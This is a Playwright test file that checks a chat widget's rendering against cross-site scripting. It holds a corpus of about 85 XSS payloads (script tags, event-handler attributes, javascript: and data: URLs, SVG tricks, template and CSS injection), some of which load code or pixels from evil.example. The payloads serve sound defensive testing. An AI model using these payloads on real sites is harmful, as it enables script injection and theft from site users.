"""No text of a person, of a curator or of the server runs as a script, or becomes a link that one should not follow."""
from __future__ import annotations

import json
from typing import Any, Dict, Iterator, List

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.site import Scripted, Site
from tests.widget.conftest import WIDGET
from tests.widget.samples import reply, table, verdict
from tests.widget.talk import Talk

RUN = "window.ran=1"
CORPUS: List[str] = [
    f"<script>{RUN}</script>", f"<ScRiPt>{RUN}</ScRiPt>", f"<script/x>{RUN}</script>", f"<script\n>{RUN}</script>", f"</script><script>{RUN}</script>",
    f"<<script>{RUN}//<</script>", f"<scr<script>ipt>{RUN}</scr</script>ipt>", "<script src=//evil.example/x.js></script>", "<script src='data:text/javascript,window.ran=1'></script>",
    f"<img src=x onerror={RUN}>", f"<img/src=x/onerror={RUN}>", f"<img src=x onerror='{RUN}'//>", f"<IMG SRC=x OnErRoR={RUN}>", f'"><img src=x onerror={RUN}>', f"'><img src=x onerror={RUN}>",
    "<img src=//evil.example/pixel.gif>", "<img srcset='//evil.example/a 1x'>", f"<image src=x onerror={RUN}>", f"<svg onload={RUN}>", f"<svg/onload={RUN}>", f"<svg><script>{RUN}</script></svg>",
    "<svg><a xlink:href='javascript:window.ran=1'><text y=20>x</text></a></svg>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=window.ran=1>#x'/></svg>", f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>", "<math href='javascript:window.ran=1'>x</math>",
    f"<body onload={RUN}>", f"<iframe onload={RUN}>", "<iframe src='javascript:window.ran=1'></iframe>", "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>", "<object data='javascript:window.ran=1'></object>",
    "<embed src='javascript:window.ran=1'>", f"<video onerror={RUN}><source></video>", f"<audio src=x onerror={RUN}>", f"<details open ontoggle={RUN}>", f"<input autofocus onfocus={RUN}>", f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>", f"<button onclick={RUN} autofocus>x</button>", f"<marquee onstart={RUN}>", f"<div style='animation:x' onanimationstart={RUN}>", f"<p tabindex=1 autofocus onfocus={RUN}>",
    "<form action='javascript:window.ran=1'><button>x</button></form>", "<button formaction='javascript:window.ran=1'>x</button>", "<base href='https://evil.example/'>", "<meta http-equiv=refresh content='0;url=javascript:window.ran=1'>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css'</style>", "<template><script>window.ran=1</script></template>", "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'>",
    "<a href='javascript:window.ran=1'>x</a>", "[x](javascript:window.ran=1)", "[x](JaVaScRiPt:window.ran=1)", "[x](java\tscript:window.ran=1)", "![x](x'onerror='window.ran=1)", "[x](data:text/html,<script>window.ran=1</script>)",
    "javascript:window.ran=1", "javascript://example.org/%0Awindow.ran=1", " javascript:window.ran=1", "java\nscript:window.ran=1", "JAVASCRIPT:window.ran=1", "\u0001javascript:window.ran=1", "vbscript:msgbox(1)",
    "data:text/html,<script>window.ran=1</script>", "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=", "blob:https://example.org/x", "file:///etc/passwd", "view-source:javascript:window.ran=1", "filesystem:x",
    "https://example.org/\"onmouseover=\"window.ran=1", "https://example.org/'><img src=x onerror=window.ran=1>", "https://javascript:window.ran=1@example.org/", "http:javascript:window.ran=1", "a@b.example?body=<script>window.ran=1</script>",
    "{{constructor.constructor('window.ran=1')()}}", "${window.ran=1}", "<%= window.ran=1 %>", "&lt;img src=x onerror=window.ran=1&gt;", "&#60;script&#62;window.ran=1&#60;/script&#62;", "\\u003cscript\\u003ewindow.ran=1\\u003c/script\\u003e",
    "<jpo-assistant accent='red;}*{background:url(//evil.example)'></jpo-assistant>", "--></textarea><script>window.ran=1</script>", "]]><script>window.ran=1</script>", "`;window.ran=1;`", "';window.ran=1;//", "\");window.ran=1;//", "constructor", "__proto__",
]
BATCH = 8
"""Strings a turn."""
LINKS = "[...root.querySelectorAll('[href], [src], [action], [data], [srcset]')].map(e => e.href?.baseVal ?? e.href ?? e.getAttribute('src') ?? 'other')"
STRANGE = "[...root.querySelectorAll('script, iframe, object, embed, img, image, video, audio, link, style, base, meta, form form, foreignObject, math, template')].map(e => e.localName)"
HANDLERS = "[...root.querySelectorAll('*')].flatMap(e => [...e.attributes]).filter(a => /^on|^style$|^srcdoc$/.test(a.name) && a.ownerElement.className !== 'root').map(a => a.name)"


def hostile(text: str) -> Dict[str, Any]:
    """Return a reply that has ``text`` in every place where a server could put it."""
    source = {"document": text, "section": text, "title": text, "heading": text, "language": text, "url": text}
    comparison = table("en")
    comparison["columns"] = [text] * 3
    for row in comparison["rows"]:
        row["label"] = text
        row["cells"] = [{"text": text, "status": text, "citations": []} for _ in range(3)]
    card = verdict("en")
    card.update({key: text for key in ("programme", "name", "verdict", "label", "next_step")}, notes=[text], sources=[source], links=[{"url": text, "label": text}])
    card["criteria"] = [{key: text for key in ("id", "status", "label", "status_label", "reason", "change")}]
    said = reply(text, "en", "answer", [text], sources=[source], table=comparison, verdicts=[card], notice=text, introduction=text, progress={"step": text, "of": 2})
    said["custom"]["display"]["body"] = f"{text}\n- {text}"
    return said


def batch(start: str) -> List[str]:
    """Return the strings of a turn."""
    return CORPUS[int(start) : int(start) + BATCH]


@pytest.fixture(scope="module")
def page(browser: Browser) -> Iterator[Page]:
    """One window for all the strings."""
    context = browser.new_context()
    yield context.new_page()
    context.close()


def assert_harmless(talk: Talk, text: str) -> None:
    """Check that nothing ran, that nothing but text came of it, and that links lead where links may lead."""
    assert talk.page.evaluate("typeof window.ran") == "undefined", text
    assert talk.tree(STRANGE) == [] and talk.tree(HANDLERS) == [], text
    assert all(link.startswith(("http://", "https://", "mailto:", "tel:")) for link in talk.tree(LINKS)), text


def test_the_corpus_is_large_and_has_no_doubles() -> None:
    assert len(set(CORPUS)) == len(CORPUS) >= 60


def test_what_a_person_types_is_text(page: Page) -> None:
    site = Site(Scripted(lambda text: [reply("Noted.", "en")]))
    talk = Talk(page, site.address).open()
    for text in CORPUS:
        talk.say(text.replace("\n", " ").strip("\u0001 "))
        shown = talk.inside(".bubble.user p").last.inner_text()
        assert_harmless(talk, text)
        assert shown.split() == text.strip("\u0001 ").split()
    page.reload()
    expect(talk.inside(".bubble.user").first).to_be_visible()
    assert_harmless(talk, "the history")
    site.stop()


def test_what_a_curator_writes_is_text(page: Page) -> None:
    site = Site(Scripted(lambda text: [reply(f"{one} and\n- {one}", "en", "answer", [one]) for one in batch(text)]))
    talk = Talk(page, site.address).open()
    for number in range(0, len(CORPUS), BATCH):
        talk.say(str(number))
        assert_harmless(talk, f"one of {batch(str(number))}")
        for text, bubble in zip(batch(str(number)), talk.inside(".bubble.bot").all()[-len(batch(str(number))):]):
            assert "".join(text.split()) in "".join(bubble.inner_text().split())
    site.stop()


def test_what_the_server_sends_in_any_place_is_text(page: Page) -> None:
    site = Site(Scripted(lambda text: [hostile(one) for one in batch(text)]))
    talk = Talk(page, site.address).open()
    for number in range(0, len(CORPUS), BATCH):
        talk.say(str(number))
        assert_harmless(talk, f"one of {batch(str(number))}")
    talk.tree("[...root.querySelectorAll('.log a[href^=http]')].map(e => (e.addEventListener('click', event => event.preventDefault()), e.click()))")
    talk.inside(".card").last.get_by_role("button").first.click()
    assert_harmless(talk, "pressed")
    page.reload()
    expect(talk.inside(".card").first).to_be_visible()
    assert_harmless(talk, "what the tab kept")
    site.stop()


def test_what_a_webmaster_sets_is_no_script(page: Page) -> None:
    page.route("https://site.example/**", lambda route: route.fulfill(content_type="text/html", body="<!doctype html><html lang=en><title>x</title><body></body></html>"))
    page.goto("https://site.example/")
    page.add_script_tag(path=WIDGET / "dist" / "widget.js")
    for text in CORPUS:
        page.evaluate(
            "text => { const e = document.createElement('jpo-assistant'); document.body.replaceChildren(e);"
            " for (const name of ['privacy', 'contact', 'accent', 'heading', 'language', 'position', 'greeting', 'server']) e.setAttribute(name, text); }",
            text,
        )
        assert page.evaluate("typeof window.ran") == "undefined"
        links = page.evaluate(f"(() => {{ const root = document.querySelector('jpo-assistant').shadowRoot; return [{LINKS}, {STRANGE}]; }})()")
        assert all(link.startswith(("http://", "https://", "mailto:", "tel:")) for link in links[0]) and not links[1], text


@pytest.mark.parametrize("answer", [
    "", "null", "[]", "{}", '{"messages": null}', '{"messages": [null]}', '{"messages": [5]}', '{"messages": [{}]}', '{"messages": [{"text": null}]}', "<html>", '{"messages": [{"text": "x", "buttons": 5}]}',
    '{"messages": [{"text": "x", "custom": {"display": null}}]}', '{"messages": [{"text": "x", "lang": "xx"}]}', '{"messages": [{"text": "x", "custom": {"display": {"body": 5}}}]}',
])
def test_a_broken_answer_is_told_and_the_widget_goes_on(page: Page, scripted: Site, answer: str) -> None:
    talk = Talk(page, scripted.address)
    if not talk.inside("dialog").is_visible():
        talk.open()
    page.route("**/webhook", lambda route: route.fulfill(status=200, content_type="application/json", body=answer))
    talk.submit("hello")
    page.wait_for_function("() => !document.querySelector('jpo-assistant').shadowRoot.querySelector('.writing').textContent")
    page.unroute("**/webhook")
    expect(talk.say("answer en")).to_contain_text("Usually under 35")
    assert json.dumps(talk.tree("root.querySelector('.alert').textContent")) == '""'
